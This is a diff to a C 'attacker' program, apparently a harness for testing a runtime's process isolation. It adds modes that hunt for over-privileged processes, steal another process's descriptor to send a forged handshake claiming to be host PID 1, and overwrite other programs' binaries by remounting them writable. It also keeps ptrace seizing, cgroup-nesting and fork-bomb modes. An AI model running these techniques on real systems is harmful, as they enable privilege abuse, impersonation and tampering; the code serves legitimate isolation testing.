@@ -4,6 +4,8 @@
 // there is a file /tmp/stop: its words are on whom.
 //
 //   attacker trace      seizes each process, and takes its descriptors
+//   attacker rights     looks for processes with rights that itself could not have
+//   attacker forge      tells whoever listens at a process's descriptors that it is another
 //   attacker binary     writes to the programs of others, on which mount ever they are
 //   attacker nest       makes control groups below its own, as deep and as fast as it can
 //   attacker fork       makes processes as fast as it can
@@ -51,14 +53,53 @@ static void trace(int pid) {
   waitpid(pid, 0, __WALL);
 }
 
+// The mask of a line of a process's status.
+static unsigned long long mask(const char *pid, const char *key) {
+  char path[64], line[256];
+  unsigned long long value = 0;
+  snprintf(path, sizeof path, "/proc/%s/status", pid);
+  FILE *status = fopen(path, "re");
+  while (status && fgets(line, sizeof line, status))
+    if (!strncmp(line, key, strlen(key))) value = strtoull(line + strlen(key), 0, 16);
+  if (status) fclose(status);
+  return value;
+}
+
+static void rights(int pid) {
+  char name[16];
+  snprintf(name, sizeof name, "%d", pid);
+  unsigned long long more = mask(name, "CapPrm:") & ~mask("self", "CapBnd:");
+  tried++;
+  if (more) printf("has the rights %llx\n", more);
+}
+
+// What init and its like tell the runtime, in Sources/Runtime/Launch/Handshake.swift: that the program
+// is the process of that number, here the first one of the host.
+static void forge(int pid) {
+  static const char frame[5] = {'I', 1, 0, 0, 0};
+  int process = (int)syscall(SYS_pidfd_open, pid, 0);
+  if (process < 0) return;
+  int stolen = (int)syscall(SYS_pidfd_getfd, process, 3, 0);
+  close(process);
+  if (stolen < 0) return;
+  // After the runtime has been told the truth: the channel stays open for as long as we have it.
+  usleep(50000);
+  if (write(stolen, frame, sizeof frame) == sizeof frame) tried++;
+  close(stolen);
+}
+
 static void binary(int pid) {
   char path[64], exe[256] = "";
   struct mount_attr writable = {.attr_clr = MOUNT_ATTR_RDONLY};
   snprintf(path, sizeof path, "/proc/%d/exe", pid);
-  if (readlink(path, exe, sizeof exe - 1) > 0 && is_own(exe)) return;
+  tried++;
   int held = open(path, O_PATH | O_CLOEXEC);
   if (held < 0) return;
-  tried++;
+  snprintf(path, sizeof path, "/proc/self/fd/%d", held);
+  if (readlink(path, exe, sizeof exe - 1) < 0 || is_own(exe)) {
+    close(held);
+    return;
+  }
   if (syscall(SYS_mount_setattr, held, "", AT_EMPTY_PATH, &writable, sizeof writable) == 0)
     printf("made the mount of %s writable\n", exe);
   int copy = (int)syscall(SYS_open_tree, held, "", AT_EMPTY_PATH | OPEN_TREE_CLONE);
@@ -69,7 +110,6 @@ static void binary(int pid) {
     close(copy);
   }
   // Once nobody executes it any more ETXTBSY is no shield.
-  snprintf(path, sizeof path, "/proc/self/fd/%d", held);
   for (int i = 0; i < 2000; i++) {
     int file = open(path, O_WRONLY | O_CLOEXEC);
     if (file < 0 && errno == ETXTBSY) continue;
@@ -97,7 +137,7 @@ static int nest(void) {
   if (chdir("/sys/fs/cgroup") < 0) return -1;
   // A name that is no UTF-8, and as deep as the kernel lets us.
   while (access("/tmp/stop", F_OK) != 0) {
-    if (mkdir("\xff\xfe\n", 0755) < 0 || chdir("\xff\xfe\n") < 0) {
+    if (mkdir("\xff\xfe", 0755) < 0 || chdir("\xff\xfe") < 0) {
       printf("no deeper than %lu: %s\n", tried, strerror(errno));
       return chdir("/sys/fs/cgroup");
     }
@@ -120,6 +160,8 @@ int main(int count, char **words) {
   }
   while (access("/tmp/stop", F_OK) != 0 && result == 0) {
     if (!strcmp(way, "trace")) result = each_process(trace);
+    if (!strcmp(way, "rights")) result = each_process(rights);
+    if (!strcmp(way, "forge")) result = each_process(forge);
     if (!strcmp(way, "binary")) result = each_process(binary);
     if (!strcmp(way, "nest")) usleep(10000);
   }
